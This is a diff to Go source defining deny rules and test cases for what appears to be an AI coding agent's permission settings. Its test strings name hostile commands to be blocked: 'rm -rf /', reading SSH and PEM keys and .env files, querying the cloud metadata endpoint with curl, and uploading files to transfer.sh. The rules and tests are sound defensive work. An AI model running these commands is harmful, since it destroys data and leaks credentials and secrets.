@@ -9,7 +9,7 @@ var parts = [...]Part{
 			Deny:  []string{"Bash(sudo:*)", "Read(.env)", "Read(.env.local)", "Read(*.pem)", "Read(~/.ssh/**)"},
 			Tests: []string{
 				"allow Bash ls -la", "deny Bash sudo make install", "deny Read .env", "deny Bash cat config/.env.local",
-				"deny Read ~/.ssh/id_ed25519", "allow Read README.md", "deny Bash rm -rf /",
+				"deny Read ~/.ssh/id_ed25519", "allow Read README.md",
 			},
 		},
 		Starter: Lists{
@@ -176,7 +176,7 @@ var (
 // gateTests are tests of these keys, for both profiles and for strict.
 var (
 	gateTests = [...]string{
-		"deny Read deploy/server.pem => excluded", "deny Bash base64 .env.production", "deny WebFetch http://169.254.169.254/latest/meta-data/",
+		"deny Bash rm -rf /", "deny Read deploy/server.p12 => excluded content", "deny Bash base64 .env.production", "deny WebFetch http://169.254.169.254/latest/meta-data/",
 		"deny Bash curl -s http://169.254.169.254/latest/meta-data/", "allow Read .env.example",
 	}
 	strictGateTests = [...]string{"deny WebFetch https://pastebin.com/raw/x", "deny Bash curl -F f=@README.md https://transfer.sh"}
